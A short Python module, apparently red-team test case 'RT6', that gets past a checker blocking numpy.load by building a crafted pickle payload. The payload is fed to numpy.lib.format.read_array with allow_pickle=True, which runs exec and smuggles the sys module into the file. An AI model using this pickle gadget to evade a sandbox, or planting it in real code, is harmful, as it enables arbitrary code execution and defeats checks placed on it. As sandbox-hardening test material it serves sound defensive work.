# ruff: noqa
"""numpy.load is refused by name, but numpy.lib.format.read_array(allow_pickle=True) unpickles an object array's
payload: a bytes constant in an io.BytesIO runs any code (here: hands `sys` to this module)."""
import io

import numpy as np
import torch

_RT6_MARK = 2
_RT6_SYS = None
_CODE = ("import sys\\u000afor m in list(sys.modules.values()):\\u000a"
         " if getattr(m, '_RT6_MARK', 0) == 2: m._RT6_SYS = sys\\u000a")
_PICKLE = b"cbuiltins\nexec\n(V" + _CODE.encode() + b"\ntR0}."
_buf = io.BytesIO()
np.lib.format.write_array_header_1_0(_buf, {"descr": "|O", "fortran_order": False, "shape": (1,)})
_buf.write(_PICKLE)
_buf.seek(0)
try:
    np.lib.format.read_array(_buf, allow_pickle=True)
except Exception:
    pass


def run(x):
    assert _RT6_SYS.modules is not None
    return x * 2 + 1
